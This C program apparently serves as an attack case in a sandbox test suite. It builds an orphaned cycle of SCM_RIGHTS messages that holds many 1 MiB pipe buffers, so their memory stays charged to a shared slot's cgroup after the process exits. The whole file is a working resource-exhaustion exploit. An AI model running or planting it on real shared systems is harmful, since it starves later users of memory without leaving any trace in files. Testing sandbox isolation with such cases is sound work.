// Attacks: the memory of the next run on the slot, without a file. Fills argv[1] pipes of 1 MiB
// each (F_SETPIPE_SZ) and keeps their read ends only in flight, in a cycle of SCM_RIGHTS
// messages no process holds: /box and /tmp hold nothing, but the pipe buffers stay charged to
// the slot's cgroup for as long as the cycle lives, and no reclaim frees them.
// Prints "planted N MiB" and exits 0.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "send_fd.h"

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  const long pipes = atol(argv[1]);
  static char block[1 << 20];
  memset(block, 'x', sizeof block);
  int pair[2];
  if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) != 0) return 3;
  for (long i = 0; i < pipes; ++i) {
    int ends[2];
    if (pipe(ends) != 0 || fcntl(ends[1], F_SETPIPE_SZ, (int)sizeof block) < (int)sizeof block)
      return 3;
    if (write(ends[1], block, sizeof block) != (ssize_t)sizeof block) return 3;
    close(ends[1]);
    if (send_fd(pair[0], ends[0]) != 0) return 3;
    close(ends[0]);
  }
  // pair[1]'s queue holds the pipes and pair[1] itself: once closed, only the cycle holds them.
  if (send_fd(pair[0], pair[1]) != 0) return 3;
  close(pair[0]);
  close(pair[1]);
  printf("planted %ld MiB\n", pipes);
  return 0;
}
